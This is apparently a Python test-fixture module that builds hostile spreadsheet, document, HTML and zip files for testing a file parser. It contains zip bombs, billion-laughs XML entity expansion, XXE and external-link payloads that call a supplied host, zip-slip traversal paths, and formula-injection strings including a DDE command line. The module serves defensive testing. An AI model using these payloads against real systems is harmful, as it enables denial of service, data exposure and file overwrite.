"""Files that want to do harm, made in code: to swell, to call somebody, to run, to climb out of a folder."""

import struct
import zipfile
from collections.abc import Iterator
from io import BytesIO

from tests.faults.targets import SHEET, packed, return_book

MEGABYTE = 1024 * 1024
DDE = "=cmd|' /C calc'!A0"
INJECTED = (
    DDE,
    '=HYPERLINK("http://{host}/","x")',
    '=WEBSERVICE("http://{host}/")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
)
REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
RELATION = '<Relationship Id="rId9" Type="{kind}" Target="http://{host}/{what}" TargetMode="External"/>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def swelling() -> Iterator[tuple[str, bytes]]:
    """Small files that want to be large."""
    book = return_book()
    yield "strings.xlsx", packed(book, "xl/sharedStrings.xml", _strings(3_000_000), tight=True)
    yield (
        "one string.xlsx",
        packed(
            book, "xl/sharedStrings.xml", _sst(b"<si><t>" + b"x" * 90 * MEGABYTE + b"</t></si>"), tight=True
        ),
    )
    yield "deep.xlsx", packed(book, SHEET, b"<worksheet><sheetData>" + b"<row>" * 500_000)
    yield "merges.xlsx", packed(book, SHEET, _merges(book, 200_000), tight=True)
    yield "range.xlsx", packed(book, SHEET, _far(book, b"XFD1048576"))
    yield "beyond.xlsx", packed(book, SHEET, _far(book, b"ZZZZZZ99999999"))
    yield "lying.xlsx", _lying(book)
    yield "overlapping.zip", _overlapping(2_000)
    yield "nested.zip", _nested(12)
    yield "many.zip", _many(5_000)
    yield "deep.docx", _document("<w:tbl><w:tr><w:tc>" * 20_000)
    yield "deep.html", b"<table><tr><td>" * 100_000
    yield "entities.xml", _entities("urn:schemas-microsoft-com:office:spreadsheet")
    yield "entities.docx", _document("&e9;", _billion_laughs())


def fetching(host: str) -> Iterator[tuple[str, bytes]]:
    """Files that ask their reader to call ``host``."""
    book = return_book()
    link = RELATION.format(kind=f"{OFFICE}/externalLinkPath", host=host, what="link.xlsx")
    yield (
        "external link.xlsx",
        packed(book, "xl/worksheets/_rels/sheet1.xml.rels", REMOTE.format(link).encode()),
    )
    external = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://{host}/e">]>'.encode()
    yield "external entity.xlsx", packed(book, SHEET, external + b"<worksheet>&e;</worksheet>")
    yield (
        "external dtd.xlsx",
        packed(book, SHEET, f'<!DOCTYPE x SYSTEM "http://{host}/d"><worksheet/>'.encode()),
    )
    yield (
        "external entity.xml",
        external + b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">&e;</Workbook>',
    )
    yield "template.docx", _document("<w:p><w:r><w:t>x</w:t></w:r></w:p>", rels=RELATION.format(
        kind=f"{OFFICE}/attachedTemplate", host=host, what="t.dotm"))  # fmt: skip
    page = f'<table><tr><td><img src="http://{host}/i"><link rel=stylesheet href="http://{host}/c"></td></tr></table>'
    yield "page.html", f'<base href="http://{host}/"><iframe src="http://{host}/f"></iframe>{page}'.encode()
    formula = "".join(
        f'<c r="A{row}" t="str"><f>{text[1:].format(host=host)}</f><v>x</v></c>'
        for row, text in enumerate(INJECTED[:3], 9)
    )
    yield (
        "formulas.xlsx",
        packed(
            book,
            SHEET,
            part(book).replace(b"</sheetData>", f'<row r="9">{formula}</row></sheetData>'.encode()),
        ),
    )


def climbing() -> Iterator[tuple[str, bytes]]:
    """Archives whose members want to be written elsewhere."""
    for name in (
        "../../climbed.xlsx",
        "/tmp/climbed.xlsx",  # noqa: S108 - nothing is written there, which is the point
        "..\\..\\climbed.xlsx",
        "C:\\climbed.xlsx",
        "a/../../climbed.xlsx",
    ):
        out = BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(name, return_book())
        yield f"climbing {len(name)}.zip", out.getvalue()


def running() -> Iterator[tuple[str, bytes]]:
    """Files with something to run, locked files, and files of two kinds at once."""
    book = return_book()
    yield "macros.xlsm", packed(book, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" * 100)
    yield (
        "encrypted.xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "EncryptedPackage".encode("utf-16-le"),
    )
    yield "pdf and book.xlsx", b"%PDF-1.7\n" + book
    yield "picture and book.xlsx", b"GIF89a" + bytes(20) + book
    yield "page and book.xlsx", b"<html><table><tr><td>x" + book
    yield "program.xlsx", b"MZ" + book
    yield (
        "shell.csv",
        "\n".join(["序号,隐患描述", *(f'{n},"{text}"' for n, text in enumerate(INJECTED))]).encode(),
    )
    yield "null.xlsx", bytes(100_000)


def part(book: bytes) -> bytes:
    """The first sheet of a workbook."""
    with zipfile.ZipFile(BytesIO(book)) as package:
        return package.read(SHEET)


def _sst(inside: bytes) -> bytes:
    return b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + inside + b"</sst>"


def _strings(count: int) -> bytes:
    return _sst(b"<si><t>x</t></si>" * count)


def _merges(book: bytes, count: int) -> bytes:
    merged = b"".join(b'<mergeCell ref="A%d:XFD%d"/>' % (row, row + 1) for row in range(1, count))
    return part(book).replace(b"</sheetData>", b"</sheetData><mergeCells>" + merged + b"</mergeCells>")


def _far(book: bytes, address: bytes) -> bytes:
    cell = b'<row><c r="' + address + b'"><v>1</v></c></row></sheetData>'
    return part(book).replace(b"</sheetData>", cell)


def _lying(book: bytes) -> bytes:
    """A package that says its sheet is a hundred bytes and unpacks to 300 MB."""
    data = bytearray(packed(book, SHEET, b" " * 300 * MEGABYTE, tight=True))
    real = struct.pack("<I", 300 * MEGABYTE)
    return bytes(data).replace(real, struct.pack("<I", 100))


def _overlapping(count: int) -> bytes:
    """Thousands of directory entries for the same megabyte."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.xlsx", bytes(MEGABYTE))
        entry = archive.infolist()[0]
        archive.filelist = [entry] * count
    return out.getvalue()


def _nested(depth: int) -> bytes:
    data = return_book()
    for level in range(depth):
        out = BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for twin in "ab":
                archive.writestr(f"{twin}{level}.zip" if level else f"{twin}.xlsx", data)
        data = out.getvalue()
    return data


def _many(count: int) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(count):
            archive.writestr(f"{number}.csv", "a,b")
    return out.getvalue()


def _billion_laughs() -> str:
    entities = ['<!ENTITY e0 "ha">']
    entities += [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE x [{''.join(entities)}]>"


def _entities(namespace: str) -> bytes:
    return f'<?xml version="1.0"?>{_billion_laughs()}<Workbook xmlns="{namespace}">&e9;</Workbook>'.encode()


def _document(body: str, doctype: str = "", rels: str = "") -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr(
            "word/document.xml",
            f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body>'
            "</w:document>",
        )
        package.writestr("word/_rels/settings.xml.rels", REMOTE.format(rels))
    return out.getvalue()
